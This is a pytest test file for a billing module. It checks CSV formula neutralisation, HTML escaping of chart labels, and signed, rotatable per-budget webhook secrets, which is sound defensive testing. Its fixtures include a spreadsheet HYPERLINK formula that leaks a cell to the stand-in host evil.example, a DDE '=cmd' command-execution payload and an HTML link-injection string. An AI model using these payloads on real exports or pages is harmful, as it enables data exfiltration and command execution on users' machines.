"""Issue 13 §4, billing: CSV exports can't run formulas, budget webhooks are signed with a
per-budget secret shown once, and chart labels can't inject HTML links."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import re
import threading
from datetime import timedelta
from decimal import Decimal
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from django.utils import timezone

from billing import charts
from billing.budgets import services
from billing.metering import meter_tick
from billing.models import Budget
from console.csv import csv_safe, csv_writer
from jobs.models import JobStatus
from tests.billing.conftest import make_job, set_status
from tests.conftest import signed_in_client, token_client

FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
LINK_NAME = '<a href="https://evil">x</a>'

# --- CSV injection ----


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12.50", "'-12.50"),  # text that looks like a number is still text
        ("train", "train"),
        ("", ""),
        (Decimal("-12.50"), Decimal("-12.50")),  # a number we produced stays a number
        (-3, -3),
        (1.5, 1.5),
    ],
)
def test_csv_safe_neutralises_formula_text_and_keeps_numbers(value, written):
    assert csv_safe(value) == written


def test_the_writer_applies_it_to_every_cell():
    stream = io.StringIO()
    csv_writer(stream).writerow(["=cmd|' /C calc'!A0", Decimal("-1.5"), "ok"])
    assert next(csv.reader(io.StringIO(stream.getvalue()))) == [
        "'=cmd|' /C calc'!A0",
        "-1.5",
        "ok",
    ]


def _ran_for_an_hour(world, name: str, project: str = ""):
    now = timezone.now().replace(microsecond=0)
    job = make_job(world, name=name, project=project, start=now - timedelta(hours=3))
    set_status(job, JobStatus.RUNNING, now - timedelta(hours=2))
    set_status(job, JobStatus.SUCCEEDED, now - timedelta(hours=1))
    meter_tick(now=now)
    return now


def test_the_cost_export_neutralises_a_formula_job_name(world, catalog):
    now = _ran_for_an_hour(world, FORMULA_NAME)
    client = signed_in_client(world.member, world.tenant)
    params = {
        "range": "custom",
        "start": (now - timedelta(days=1)).date().isoformat(),
        "end": now.date().isoformat(),
        "group_by": "job",
    }

    response = client.get("/billing/costs/export.csv", params)

    assert response.status_code == 200, response.content
    header, *lines = list(csv.reader(io.StringIO(response.content.decode())))
    assert header == ["job", "gpu_hours", "vcpu_hours", "amount", "currency"]
    [line] = lines
    assert line[0] == "'" + FORMULA_NAME
    # The figures are still plain numbers.
    assert Decimal(line[2]) > 0 and Decimal(line[3]) > 0
    assert not any(cell.startswith(("=", "+", "@")) for cell in line)


# --- chart labels ----


def test_chart_labels_escape_html():
    daily = charts.daily_stacked(["2026-11-01"], {LINK_NAME: [Decimal(1)]}, "USD")
    top = charts.top_jobs_bar(
        [{"job_name": LINK_NAME, "job_ref": 7, "amount": Decimal("1")}], "USD"
    )
    tiers = charts.tier_share({LINK_NAME: Decimal(1)})
    value = charts.value_bars(
        [{"gpu_type": LINK_NAME, "per_gpu_hour": Decimal(1), "per_pflop_hour": None}], "USD"
    )

    assert daily["data"][0]["name"] == '&lt;a href="https://evil"&gt;x&lt;/a&gt;'
    assert top["data"][0]["y"] == ['&lt;a href="https://evil"&gt;x&lt;/a&gt; #7']
    assert tiers["data"][0]["labels"] == ['&lt;a href="https://evil"&gt;x&lt;/a&gt;']
    assert value["data"][0]["x"] == ['&lt;a href="https://evil"&gt;x&lt;/a&gt;']


def test_the_cost_explorer_figures_carry_no_link_from_a_job_name(world, catalog):
    now = _ran_for_an_hour(world, LINK_NAME, project=LINK_NAME)
    client = signed_in_client(world.member, world.tenant)
    for group_by in ("job", "project"):
        html = client.get(
            "/billing/costs/",
            {
                "range": "custom",
                "start": (now - timedelta(days=1)).date().isoformat(),
                "end": now.date().isoformat(),
                "group_by": group_by,
            },
        ).content.decode()
        # The grouped table (written by a tag, not the template loop) escapes it too.
        assert "<td>&lt;a href=&quot;https://evil&quot;&gt;x&lt;/a&gt;" in html, group_by
        assert '<a href="https://evil">' not in html
        for figure_id in ("fig-daily", "fig-top"):
            found = re.search(
                rf'<script id="{figure_id}" type="application/json">(.*?)</script>', html, re.S
            )
            figure = json.loads(found.group(1))
            labels = json.dumps([[t.get("name"), t.get("x"), t.get("y")] for t in figure["data"]])
            assert "x&lt;/a&gt;" in labels, (group_by, figure_id, labels)
            assert "<a " not in labels


# --- per-budget webhook secrets ----


class Receiver(BaseHTTPRequestHandler):
    received: list[tuple] = []

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.received.append((self.headers["X-GpuGeek-Signature"], body))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def receiver(settings):
    settings.BUDGET_WEBHOOK_ALLOW_PRIVATE = True  # the receiver is on loopback
    Receiver.received = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Receiver)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/hooks/budget", Receiver.received
    finally:
        server.shutdown()
        server.server_close()


def verifies(secret: str, signature: str, body: bytes) -> bool:
    """What a receiver does with the secret it was shown."""
    expected = "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()
    return hmac.compare_digest(expected, signature)


PAYLOAD = {"budget": "Cap", "threshold": 80, "kind": "actual", "spend": "8.1"}


def test_the_api_shows_the_secret_once_and_rotation_invalidates_the_old_one(
    world, catalog, receiver
):
    url, received = receiver
    api = token_client(world.owner, world.tenant)

    created = api.post(
        "/api/v1/budgets", {"name": "Cap", "amount": "10", "webhook_url": url}, format="json"
    )

    assert created.status_code == 201, created.content
    secret = created.json()["webhook_secret"]
    assert secret.startswith("whsec_") and len(secret) > 30
    budget = Budget.objects.get(pk=created.json()["id"])
    assert secret not in budget.webhook_secret_encrypted  # stored encrypted
    for response in (api.get("/api/v1/budgets"), api.get(f"/api/v1/budgets/{budget.pk}")):
        assert response.status_code == 200
        assert "webhook_secret" not in response.content.decode()
        assert secret not in response.content.decode()

    services.budget_webhook_send(budget=budget, payload=PAYLOAD)
    [(signature, body)] = received
    assert verifies(secret, signature, body)

    rotated = api.post(f"/api/v1/budgets/{budget.pk}/rotate-webhook-secret")
    assert rotated.status_code == 200, rotated.content
    new_secret = rotated.json()["webhook_secret"]
    assert new_secret != secret
    services.budget_webhook_send(budget=Budget.objects.get(pk=budget.pk), payload=PAYLOAD)
    signature, body = received[-1]
    assert verifies(new_secret, signature, body)
    assert not verifies(secret, signature, body)
    assert new_secret not in api.get(f"/api/v1/budgets/{budget.pk}").content.decode()


def test_budgets_of_two_tenants_sign_with_different_secrets(world, other_world, catalog, receiver):
    url, received = receiver
    mine = services.budget_create(
        tenant=world.tenant, user=world.owner, name="Cap", amount="10", webhook_url=url
    )
    theirs = services.budget_create(
        tenant=other_world.tenant, user=other_world.owner, name="Cap", amount="10", webhook_url=url
    )
    services.budget_webhook_send(budget=mine, payload=PAYLOAD)
    services.budget_webhook_send(budget=theirs, payload=PAYLOAD)
    (mine_sig, body), (theirs_sig, _) = received
    assert verifies(mine.new_webhook_secret, mine_sig, body)
    assert not verifies(theirs.new_webhook_secret, mine_sig, body)
    assert verifies(theirs.new_webhook_secret, theirs_sig, body)


def test_only_budget_managers_rotate(world, catalog, receiver):
    url, _ = receiver
    budget = services.budget_create(
        tenant=world.tenant, user=world.owner, name="Cap", amount="10", webhook_url=url
    )
    before = Budget.objects.get(pk=budget.pk).webhook_secret_encrypted
    member_api = token_client(world.member, world.tenant)
    assert member_api.post(f"/api/v1/budgets/{budget.pk}/rotate-webhook-secret").status_code == 403
    member_page = signed_in_client(world.member, world.tenant)
    page = member_page.post(f"/billing/budgets/{budget.pk}/rotate-webhook-secret/")
    assert page.status_code in (302, 403, 404)
    assert Budget.objects.get(pk=budget.pk).webhook_secret_encrypted == before


def test_a_foreign_budget_cant_be_rotated(world, other_world, catalog, receiver):
    url, _ = receiver
    theirs = services.budget_create(
        tenant=other_world.tenant, user=other_world.owner, name="Cap", amount="1", webhook_url=url
    )
    api = token_client(world.owner, world.tenant)
    assert api.post(f"/api/v1/budgets/{theirs.pk}/rotate-webhook-secret").status_code == 404


def test_the_page_shows_the_secret_once(world, catalog, receiver):
    url, received = receiver
    client = signed_in_client(world.owner, world.tenant)

    response = client.post(
        "/billing/budgets/",
        {
            "name": "Cap",
            "amount": "10",
            "action": "alert_only",
            "thresholds": "50, 100",
            "webhook_url": url,
        },
    )

    assert response.status_code == 302, response.content.decode()[:2000]
    first = client.get("/billing/budgets/").content.decode()
    shown = re.search(r'<code class="secret-once">([^<]+)</code>', first)
    assert shown, first
    secret = shown.group(1)
    second = client.get("/billing/budgets/").content.decode()
    assert secret not in second
    budget = Budget.objects.get(tenant=world.tenant, name="Cap")
    assert secret not in client.get(f"/billing/budgets/{budget.pk}/").content.decode()
    services.budget_webhook_send(budget=budget, payload=PAYLOAD)
    assert verifies(secret, *received[-1])

    # Rotation from the edit page: a new secret, shown once; the old one no longer verifies.
    assert client.post(f"/billing/budgets/{budget.pk}/rotate-webhook-secret/").status_code == 302
    rotated = re.search(
        r'<code class="secret-once">([^<]+)</code>',
        client.get("/billing/budgets/").content.decode(),
    ).group(1)
    assert rotated != secret
    services.budget_webhook_send(budget=Budget.objects.get(pk=budget.pk), payload=PAYLOAD)
    assert verifies(rotated, *received[-1]) and not verifies(secret, *received[-1])


def test_a_budget_from_before_secrets_gets_one_on_first_send(world, catalog, receiver):
    url, received = receiver
    budget = services.budget_create(
        tenant=world.tenant, user=world.owner, name="Cap", amount="10", webhook_url=url
    )
    Budget.objects.filter(pk=budget.pk).update(webhook_secret_encrypted="")
    old = Budget.objects.get(pk=budget.pk)

    services.budget_webhook_send(budget=old, payload=PAYLOAD)
    services.budget_webhook_send(budget=Budget.objects.get(pk=budget.pk), payload=PAYLOAD)

    assert Budget.objects.get(pk=budget.pk).webhook_secret_encrypted
    (first, _), (second, _) = received
    assert first == second  # one secret was made and kept, not one per send
    new_secret = services.budget_webhook_secret_rotate(budget=old, user=world.owner)
    services.budget_webhook_send(budget=Budget.objects.get(pk=budget.pk), payload=PAYLOAD)
    assert verifies(new_secret, *received[-1])


def test_clearing_the_url_drops_the_secret_and_setting_it_makes_a_new_one(world, catalog, receiver):
    url, _ = receiver
    budget = services.budget_create(
        tenant=world.tenant, user=world.owner, name="Cap", amount="10", webhook_url=url
    )
    first = budget.new_webhook_secret
    budget = services.budget_update(budget=budget, user=world.owner, webhook_url="")
    assert budget.webhook_secret_encrypted == "" and budget.new_webhook_secret is None
    budget = services.budget_update(budget=budget, user=world.owner, webhook_url=url)
    assert budget.new_webhook_secret and budget.new_webhook_secret != first
    # A change that keeps the URL keeps the secret (and shows nothing).
    budget = services.budget_update(budget=budget, user=world.owner, amount="20")
    assert budget.new_webhook_secret is None
